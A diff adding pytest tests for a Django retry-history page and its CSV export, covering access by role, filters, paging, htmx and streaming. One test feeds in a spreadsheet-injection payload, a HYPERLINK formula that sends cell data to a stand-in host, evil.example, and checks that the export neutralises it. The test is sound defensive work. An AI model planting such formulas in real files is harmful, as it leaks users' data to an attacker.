@@ -1,0 +1,545 @@
+"""The retry history page and its CSV export: who sees what, filters, pages, and the file."""
+
+from __future__ import annotations
+
+import csv
+import io
+import logging
+import uuid
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+
+from kickouts.models import Outcome, RetryAttempt
+
+HISTORY = reverse("history")
+HISTORY_CSV = reverse("history_csv")
+
+
+def guid() -> str:
+    return str(uuid.uuid4())
+
+
+def retry(user, **fields) -> RetryAttempt:
+    """A retry record as the retry form leaves it; each has its own source task."""
+    values = {
+        "requested_by": user,
+        "form_token": uuid.uuid4(),
+        "source_task_guid": guid(),
+        "batch_mode": "new batch",
+        "payload": {"batchSettings": {"batchMode": "new batch"}},
+        "outcome": Outcome.REJECTED,
+    }
+    values.update(fields)
+    return RetryAttempt.objects.create(**values)
+
+
+def many_retries(user, count: int, *, newest: datetime | None = None) -> list[RetryAttempt]:
+    """`count` retries a minute apart, the first one newest."""
+    newest = newest or timezone.now()
+    return RetryAttempt.objects.bulk_create(
+        RetryAttempt(
+            requested_by=user,
+            form_token=uuid.uuid4(),
+            source_task_guid=guid(),
+            batch_mode="new batch",
+            payload={},
+            outcome=Outcome.REJECTED,
+            requested_at=newest - timedelta(minutes=i),
+        )
+        for i in range(count)
+    )
+
+
+def shown(response) -> list[int]:
+    """The ids of the retries on the page, top to bottom."""
+    return [r.pk for r in response.context["page"].retries]
+
+
+def csv_rows(response) -> list[list[str]]:
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(body)))
+
+
+# --- who sees what ------------------------------------------------------------------------
+
+
+def test_a_signed_out_visitor_is_sent_to_sign_in(client, db):
+    """The page and the CSV both redirect to the sign-in page."""
+    for url in (HISTORY, HISTORY_CSV):
+        response = client.get(url)
+        assert response.status_code == 302
+        assert response["Location"].startswith(reverse("login") + "?next=")
+
+
+def test_a_signed_out_htmx_request_sends_the_whole_page_to_sign_in(client, db):
+    """htmx would swap a login page into the results; HX-Redirect moves the whole page."""
+    response = client.get(HISTORY, {"outcome": "rejected"}, HTTP_HX_REQUEST="true")
+    assert response.status_code == 204
+    assert response["HX-Redirect"].startswith(reverse("login") + "?next=")
+
+
+def test_a_user_with_no_role_is_refused_and_the_refusal_is_logged(outsider_client, caplog):
+    """Nora, in no group, gets 403 for the page and the CSV, and the log says who tried."""
+    caplog.set_level(logging.WARNING, logger="kickouts.access")
+    assert outsider_client.get(HISTORY).status_code == 403
+    assert outsider_client.get(HISTORY_CSV).status_code == 403
+    refusals = [r.getMessage() for r in caplog.records if r.name == "kickouts.access"]
+    assert any("nora" in m and HISTORY in m for m in refusals)
+    assert any("nora" in m and HISTORY_CSV in m for m in refusals)
+
+
+def test_a_supervisor_sees_every_retry(supervisor_client, clerk, other_clerk):
+    """Sam sees Carla's and Oscar's retries, and may narrow them to one person."""
+    carlas = retry(clerk)
+    oscars = retry(other_clerk)
+    response = supervisor_client.get(HISTORY)
+    assert set(shown(response)) == {carlas.pk, oscars.pk}
+    body = response.content.decode()
+    assert "Retry history" in body and 'name="user"' in body
+    assert "Carla Clerk (carla)" in body and "Oscar Other (oscar)" in body
+
+
+def test_a_clerk_sees_only_her_own_retries(clerk_client, clerk, other_clerk):
+    """Carla sees hers, never Oscar's, and has no "asked by" filter to try."""
+    carlas = retry(clerk)
+    retry(other_clerk)
+    response = clerk_client.get(HISTORY)
+    assert shown(response) == [carlas.pk]
+    body = response.content.decode()
+    assert "My retries" in body and 'name="user"' not in body
+    # Asking for Oscar's by URL changes nothing: the field does not exist for her.
+    assert shown(clerk_client.get(HISTORY, {"user": other_clerk.pk})) == [carlas.pk]
+
+
+def test_the_people_filter_offers_only_people_with_retries(supervisor_client, clerk, outsider):
+    """Nora never retried anything, so she is not in the list."""
+    retry(clerk)
+    body = supervisor_client.get(HISTORY).content.decode()
+    assert "Carla Clerk" in body and "Nora Nogroup" not in body
+
+
+# --- what a row shows ---------------------------------------------------------------------
+
+
+def test_a_row_shows_when_who_tasks_mode_outcome_and_final_status(supervisor_client, clerk):
+    """Each row links to its retry page and to both tasks; badges carry words, not colour."""
+    source, new = guid(), guid()
+    done = retry(
+        clerk,
+        source_task_guid=source,
+        batch_mode="smart batch",
+        batch_code="AP-2026-11",
+        outcome=Outcome.SUBMITTED,
+        new_task_guid=new,
+        new_task_status="Completed with kickouts",
+        new_task_finished=True,
+        requested_at=datetime(2026, 11, 20, 9, 12, 31, tzinfo=UTC),
+    )
+    body = supervisor_client.get(HISTORY).content.decode()
+    assert reverse("retry_detail", args=[done.pk]) in body
+    assert reverse("task_detail", args=[source]) in body
+    assert reverse("task_detail", args=[new]) in body
+    assert '<time datetime="2026-11-20T09:12:31Z"' in body
+    assert "Carla Clerk" in body and "smart batch" in body and "AP-2026-11" in body
+    assert 'class="badge outcome-submitted">Submitted<' in body
+    assert "Completed with kickouts" in body
+
+
+def test_a_new_task_still_running_says_running_and_an_unsent_retry_has_none(
+    supervisor_client, clerk
+):
+    """Running for a submitted retry whose task has not ended; a dash where nothing was sent."""
+    retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=guid(), new_task_status="Processing")
+    retry(clerk, outcome=Outcome.NOT_SENT)
+    body = supervisor_client.get(HISTORY).content.decode()
+    assert '<span class="muted">running</span>' in body
+    assert "Processing" not in body  # not final yet
+    assert 'class="badge outcome-not_sent">Not sent<' in body
+
+
+def test_the_table_has_a_caption_and_scoped_headers_and_the_filters_have_labels(
+    supervisor_client, clerk
+):
+    """Screen readers get a caption, column headers and a row header; every input a label."""
+    retry(clerk)
+    body = supervisor_client.get(HISTORY).content.decode()
+    assert "<caption>Retries, newest first</caption>" in body
+    assert body.count('<th scope="col">') == 7 and '<th scope="row">' in body
+    for name in ("user", "date_from", "date_to", "outcome", "final_status", "batch_mode", "q"):
+        assert f'<label for="id_{name}">' in body, name
+    assert 'aria-describedby="id_q_helptext"' in body and 'id="id_q_helptext"' in body
+
+
+# --- order and pages ----------------------------------------------------------------------
+
+
+def test_retries_are_listed_newest_first(supervisor_client, clerk):
+    """Newest first; retries made in the same instant fall back to the newest id."""
+    now = timezone.now()
+    old = retry(clerk, requested_at=now - timedelta(days=2))
+    same_a = retry(clerk, requested_at=now)
+    same_b = retry(clerk, requested_at=now)
+    middle = retry(clerk, requested_at=now - timedelta(hours=1))
+    assert shown(supervisor_client.get(HISTORY)) == [same_b.pk, same_a.pk, middle.pk, old.pk]
+
+
+def test_pages_hold_fifty_and_go_older_and_back_newer(supervisor_client, clerk):
+    """120 retries: 50, 50 and 20, with Older and Newer links that keep the filters."""
+    retries = many_retries(clerk, 120)
+    ids = [r.pk for r in retries]
+
+    first = supervisor_client.get(HISTORY, {"batch_mode": "new batch"})
+    assert shown(first) == ids[:50]
+    assert first.context["newer_url"] is None
+    older = first.context["older_url"]
+    assert "batch_mode=new+batch" in older and "before=" in older
+
+    second = supervisor_client.get(older)
+    assert shown(second) == ids[50:100]
+    third = supervisor_client.get(second.context["older_url"])
+    assert shown(third) == ids[100:]
+    assert third.context["older_url"] is None
+
+    back = supervisor_client.get(third.context["newer_url"])
+    assert shown(back) == ids[50:100]
+    assert shown(supervisor_client.get(back.context["newer_url"])) == ids[:50]
+    body = second.content.decode()
+    assert 'rel="next"' in body and 'rel="prev"' in body and "50 retries on this page" in body
+
+
+def test_pages_stay_in_order_when_many_retries_share_one_instant(supervisor_client, clerk):
+    """The page boundary falls between retries with the same time without losing any."""
+    when = timezone.now()
+    same = [retry(clerk, requested_at=when).pk for _ in range(55)]
+    first = supervisor_client.get(HISTORY)
+    second = supervisor_client.get(first.context["older_url"])
+    assert shown(first) + shown(second) == sorted(same, reverse=True)
+
+
+def test_a_page_asks_the_database_the_same_number_of_times_for_5_or_60_rows(
+    supervisor_client, clerk_client, clerk, other_clerk
+):
+    """No query per row: the people and the columns shown come with the one page query."""
+    for i in range(5):
+        retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=guid(), new_task_status="Failed")
+        retry(other_clerk, new_task_finished=True, new_task_status="Completed", batch_code=f"B{i}")
+    supervisor_client.get(HISTORY)  # fills the cached list of final statuses
+
+    def queries(client) -> int:
+        with CaptureQueriesContext(connection) as context:
+            assert client.get(HISTORY).status_code == 200
+        return len(context.captured_queries)
+
+    few = {"supervisor": queries(supervisor_client), "clerk": queries(clerk_client)}
+    for i in range(55):
+        retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=guid(), new_task_status="Failed")
+        retry(other_clerk, new_task_finished=True, new_task_status="Completed", batch_code=f"C{i}")
+    many = {"supervisor": queries(supervisor_client), "clerk": queries(clerk_client)}
+    assert few == many
+    assert many["supervisor"] <= 9 and many["clerk"] <= 8
+
+
+# --- filters ------------------------------------------------------------------------------
+
+
+def test_a_supervisor_filters_by_who_asked(supervisor_client, clerk, other_clerk):
+    """Choosing Oscar shows only Oscar's retries."""
+    retry(clerk)
+    oscars = retry(other_clerk)
+    assert shown(supervisor_client.get(HISTORY, {"user": other_clerk.pk})) == [oscars.pk]
+
+
+def test_the_date_range_is_whole_days_in_the_site_time_zone(supervisor_client, clerk, settings):
+    """In New York, 04:30 UTC on the 20th is still the 19th; both ends are included."""
+    settings.TIME_ZONE = "America/New_York"
+    on_19th_late = retry(clerk, requested_at=datetime(2026, 11, 20, 4, 30, tzinfo=UTC))
+    on_20th_early = retry(clerk, requested_at=datetime(2026, 11, 20, 5, 0, tzinfo=UTC))
+    on_21st_last = retry(clerk, requested_at=datetime(2026, 11, 22, 4, 59, tzinfo=UTC))
+    on_22nd = retry(clerk, requested_at=datetime(2026, 11, 22, 5, 0, tzinfo=UTC))
+
+    def between(start, end):
+        return set(shown(supervisor_client.get(HISTORY, {"date_from": start, "date_to": end})))
+
+    assert between("2026-11-20", "2026-11-21") == {on_20th_early.pk, on_21st_last.pk}
+    assert between("2026-11-19", "2026-11-19") == {on_19th_late.pk}
+    assert between("2026-11-22", "") == {on_22nd.pk}
+    assert between("", "2026-11-19") == {on_19th_late.pk}
+
+
+def test_filter_by_outcome(supervisor_client, clerk):
+    """Only the rejected retries."""
+    rejected = retry(clerk, outcome=Outcome.REJECTED)
+    retry(clerk, outcome=Outcome.NOT_SENT)
+    retry(clerk, outcome=Outcome.UNKNOWN)
+    assert shown(supervisor_client.get(HISTORY, {"outcome": "rejected"})) == [rejected.pk]
+
+
+def test_filter_by_final_status_or_still_running(supervisor_client, clerk):
+    """The choices are the statuses new tasks ended with, plus "still running"."""
+    done = dict(outcome=Outcome.SUBMITTED, new_task_finished=True)
+    failed = retry(clerk, **done, new_task_guid=guid(), new_task_status="Failed")
+    completed = retry(clerk, **done, new_task_guid=guid(), new_task_status="Completed")
+    running = retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=guid())
+    retry(clerk, outcome=Outcome.REJECTED)
+
+    response = supervisor_client.get(HISTORY, {"final_status": "Failed"})
+    assert shown(response) == [failed.pk]
+    choices = [value for value, _ in response.context["form"].fields["final_status"].choices]
+    assert choices == ["", "running", "Completed", "Failed"]
+    assert shown(supervisor_client.get(HISTORY, {"final_status": "Completed"})) == [completed.pk]
+    assert shown(supervisor_client.get(HISTORY, {"final_status": "running"})) == [running.pk]
+
+
+def test_filter_by_batch_mode(supervisor_client, clerk):
+    """Only the "use pending batch" retries."""
+    pending = retry(clerk, batch_mode="use pending batch")
+    retry(clerk, batch_mode="smart batch")
+    response = supervisor_client.get(HISTORY, {"batch_mode": "use pending batch"})
+    assert shown(response) == [pending.pk]
+
+
+def test_filters_combine(supervisor_client, clerk, other_clerk):
+    """Who, outcome and batch mode together narrow to the one retry that has all three."""
+    wanted = retry(clerk, outcome=Outcome.UNKNOWN, batch_mode="smart batch")
+    retry(clerk, outcome=Outcome.UNKNOWN, batch_mode="new batch")
+    retry(other_clerk, outcome=Outcome.UNKNOWN, batch_mode="smart batch")
+    retry(clerk, outcome=Outcome.REJECTED, batch_mode="smart batch")
+    query = {"user": clerk.pk, "outcome": "unknown", "batch_mode": "smart batch"}
+    assert shown(supervisor_client.get(HISTORY, query)) == [wanted.pk]
+
+
+def test_search_finds_a_source_or_new_task_by_its_whole_guid(supervisor_client, clerk):
+    """Pasting a GUID, in any case, finds the retries of that task and the one that made it."""
+    task = guid()
+    of_task = retry(clerk, source_task_guid=task)
+    made_task = retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=task)
+    retry(clerk)
+    response = supervisor_client.get(HISTORY, {"q": f"  {task.upper()} "})
+    assert set(shown(response)) == {of_task.pk, made_task.pk}
+
+
+def test_search_finds_a_task_by_the_start_of_its_guid(supervisor_client, clerk):
+    """The first characters shown in the table are enough; a carry in the range is exact."""
+    ab3f = retry(clerk, source_task_guid="ab3fffff-0000-4000-8000-000000000001")
+    ab40 = retry(clerk, source_task_guid="ab400000-0000-4000-8000-000000000002")
+    new_ab3f = retry(clerk, new_task_guid="ab3f0000-0000-4000-8000-000000000003")
+    retry(clerk, source_task_guid="ab3effff-0000-4000-8000-000000000004")
+
+    def search(term):
+        return set(shown(supervisor_client.get(HISTORY, {"q": term})))
+
+    assert search("ab3f") == {ab3f.pk, new_ab3f.pk}
+    assert search("ab3fffff") == {ab3f.pk}
+    assert search("ab3fffff-") == {ab3f.pk}
+    assert search("ab4") == {ab40.pk}
+    assert search("ab3fffff-0000-4000-8000-000000000001") == {ab3f.pk}
+
+
+def test_search_finds_a_whole_batch_code_or_words_of_the_import_note(supervisor_client, clerk):
+    """Batch codes match whole; notes match any part, in any case."""
+    coded = retry(clerk, batch_code="AP-2026-11-20")
+    noted = retry(clerk, import_note="Retry after fixing meter 10023456 for Main St")
+    retry(clerk, batch_code="AP-2026-11-21", import_note="something else")
+
+    def search(term):
+        return set(shown(supervisor_client.get(HISTORY, {"q": term})))
+
+    assert search("AP-2026-11-20") == {coded.pk}
+    assert search("fixing METER") == {noted.pk}
+    # Eight digits look like the start of a GUID, but may be an account number in a note.
+    assert search("10023456") == {noted.pk}
+    assert search("no such words") == set()
+
+
+def test_invalid_filters_get_a_clear_message_not_an_error_page(supervisor_client, clerk):
+    """Each bad value is named beside its field; no retries are shown until it is fixed."""
+    retry(clerk)
+    cases = {
+        "date_from": ({"date_from": "2026-13-45"}, "Enter a date like 2026-11-20."),
+        "date_to": (
+            {"date_from": "2026-11-20", "date_to": "2026-11-19"},
+            "Choose a day on or after “From”.",
+        ),
+        "date_to year": ({"date_to": "1066-10-14"}, "Enter a date between 2000 and 2099."),
+        "outcome": ({"outcome": "exploded"}, "Choose an outcome from the list."),
+        "batch_mode": ({"batch_mode": "any"}, "Choose a batch mode from the list."),
+        "final_status": ({"final_status": "Vanished"}, "No retry’s new task ended “Vanished”"),
+        "user": ({"user": "999999"}, "that user has no retries"),
+        "user text": ({"user": "sam"}, "that user has no retries"),
+        "user huge": ({"user": "9" * 30}, "that user has no retries"),
+        "search nul": ({"q": "a\x00b"}, "Null characters are not allowed."),
+        "search": ({"q": "x" * 201}, "at most 200 characters"),
+        "cursor": ({"before": "yesterday"}, "This page link is broken or out of date"),
+    }
+    for name, (query, message) in cases.items():
+        response = supervisor_client.get(HISTORY, query)
+        assert response.status_code == 200, name
+        body = response.content.decode()
+        assert message in body, name
+        assert "Some filters could not be used" in body, name
+        assert response.context["page"] is None, name
+
+
+def test_the_empty_states_say_why_and_how_to_clear(clerk_client, supervisor_client, clerk):
+    """A clerk with no retries is told so; filters that match nothing say how to clear them."""
+    body = clerk_client.get(HISTORY).content.decode()
+    assert "You have not retried any kickouts yet" in body
+
+    retry(clerk, outcome=Outcome.REJECTED)
+    body = clerk_client.get(HISTORY, {"outcome": "unknown"}).content.decode()
+    assert "No retries match these filters" in body
+    assert f'<a href="{HISTORY}">clear the filters</a>' in body
+    body = supervisor_client.get(HISTORY, {"q": "nothing like it"}).content.decode()
+    assert "No retries match these filters" in body
+
+
+# --- htmx ---------------------------------------------------------------------------------
+
+
+def test_an_htmx_filter_change_gets_only_the_results(supervisor_client, clerk):
+    """The results partial, the form's messages out of band, and a clean address to push."""
+    rejected = retry(clerk, outcome=Outcome.REJECTED)
+    retry(clerk, outcome=Outcome.UNKNOWN)
+    query = {"user": "", "date_from": "", "outcome": "rejected", "q": ""}
+    response = supervisor_client.get(HISTORY, query, HTTP_HX_REQUEST="true")
+    body = response.content.decode()
+    assert body.strip().startswith('<div id="history-results">')
+    assert "<html" not in body and "<form" not in body
+    assert shown(response) == [rejected.pk]
+    assert 'id="filter-errors" class="filter-errors" role="alert" hx-swap-oob="true"' in body
+    assert response["HX-Push-Url"] == f"{HISTORY}?outcome=rejected"
+
+
+def test_an_htmx_filter_with_a_bad_value_shows_the_message_with_status_200(supervisor_client, db):
+    """htmx does not swap 4xx answers, so the message comes with 200."""
+    response = supervisor_client.get(HISTORY, {"date_from": "soon"}, HTTP_HX_REQUEST="true")
+    assert response.status_code == 200
+    assert "Enter a date like 2026-11-20." in response.content.decode()
+
+
+def test_the_back_button_gets_the_whole_page(supervisor_client, db):
+    """htmx restoring history from the server needs a full page, not the fragment."""
+    response = supervisor_client.get(
+        HISTORY, HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true"
+    )
+    assert "<html" in response.content.decode()
+
+
+def test_the_filter_form_works_without_javascript(supervisor_client, clerk):
+    """A plain GET form with an Apply button, whose values come back filled in."""
+    retry(clerk, batch_mode="smart batch")
+    response = supervisor_client.get(HISTORY, {"batch_mode": "smart batch", "q": "AP-1"})
+    body = response.content.decode()
+    assert f'method="get" action="{HISTORY}"' in body
+    assert '<button type="submit">Apply</button>' in body
+    assert '<option value="smart batch" selected>' in body and 'value="AP-1"' in body
+
+
+# --- CSV ----------------------------------------------------------------------------------
+
+
+def test_the_page_links_to_a_csv_of_the_same_filters(supervisor_client, clerk):
+    """The link carries the filters in use, and none of the paging."""
+    many_retries(clerk, 60)
+    first = supervisor_client.get(HISTORY, {"outcome": "rejected", "q": ""})
+    assert first.context["csv_url"] == f"{HISTORY_CSV}?outcome=rejected"
+    second = supervisor_client.get(first.context["older_url"])
+    assert second.context["csv_url"] == f"{HISTORY_CSV}?outcome=rejected"
+    assert "Download CSV of these rows" in second.content.decode()
+
+
+def test_the_csv_has_a_header_and_utc_times(supervisor_client, clerk, settings):
+    """Times are UTC ISO 8601 whatever the site's zone; the file is an attachment."""
+    settings.TIME_ZONE = "America/New_York"
+    done = retry(
+        clerk,
+        batch_mode="use existing batch",
+        batch_code="B-7",
+        outcome=Outcome.SUBMITTED,
+        upstream_status_code=200,
+        new_task_guid=guid(),
+        new_task_status="Completed",
+        new_task_finished=True,
+        new_task_end_date=datetime(2026, 11, 20, 9, 20, 5, 123456, tzinfo=UTC),
+        import_note="Fixed the meter",
+        requested_at=datetime(2026, 11, 20, 9, 12, 31, 999999, tzinfo=UTC),
+    )
+    response = supervisor_client.get(HISTORY_CSV)
+    assert response.streaming
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="retry-history-')
+    header, row = csv_rows(response)
+    assert header == [
+        "id",
+        "requested_at_utc",
+        "requested_by",
+        "source_task_guid",
+        "batch_mode",
+        "batch_code",
+        "outcome",
+        "upstream_status_code",
+        "new_task_guid",
+        "new_task_status",
+        "new_task_end_utc",
+        "import_note",
+    ]
+    assert row == [
+        str(done.pk),
+        "2026-11-20T09:12:31Z",
+        "carla",
+        done.source_task_guid,
+        "use existing batch",
+        "B-7",
+        "submitted",
+        "200",
+        done.new_task_guid,
+        "Completed",
+        "2026-11-20T09:20:05Z",
+        "Fixed the meter",
+    ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(supervisor_client, clerk, start):
+    """A note or batch code starting with a formula character gets a leading quote."""
+    note = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    retry(clerk, import_note=note, batch_code=f"{start}1+1")
+    (_, row) = csv_rows(supervisor_client.get(HISTORY_CSV))
+    assert row[11] == "'" + note
+    assert row[5] == f"'{start}1+1"
+
+
+def test_the_csv_keeps_to_the_filters_and_to_who_may_see(clerk_client, clerk, other_clerk):
+    """Carla's CSV holds only her rejected retries, newest first."""
+    older = retry(clerk, requested_at=timezone.now() - timedelta(hours=1))
+    newer = retry(clerk)
+    retry(clerk, outcome=Outcome.NOT_SENT)
+    retry(other_clerk)
+    rows = csv_rows(clerk_client.get(HISTORY_CSV, {"outcome": "rejected"}))
+    assert [row[0] for row in rows[1:]] == [str(newer.pk), str(older.pk)]
+    assert {row[2] for row in rows[1:]} == {"carla"}
+
+
+def test_a_csv_with_a_bad_filter_is_refused_with_the_reason(supervisor_client, db):
+    """A hand-edited link gets 400 and what was wrong, never a 500."""
+    response = supervisor_client.get(HISTORY_CSV, {"date_to": "tomorrow"})
+    assert response.status_code == 400
+    assert "Enter a date like 2026-11-20." in response.content.decode()
+
+
+def test_a_large_csv_streams_in_pieces(supervisor_client, clerk):
+    """5,000 rows arrive as many pieces from an iterator, not one string built in memory."""
+    many_retries(clerk, 5000)
+    response = supervisor_client.get(HISTORY_CSV)
+    assert response.streaming
+    pieces = list(response.streaming_content)
+    assert len(pieces) > 10
+    assert max(len(p) for p in pieces) < sum(len(p) for p in pieces) / 5
+    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode())))
+    assert len(rows) == 5001
+    assert len({row[0] for row in rows[1:]}) == 5000
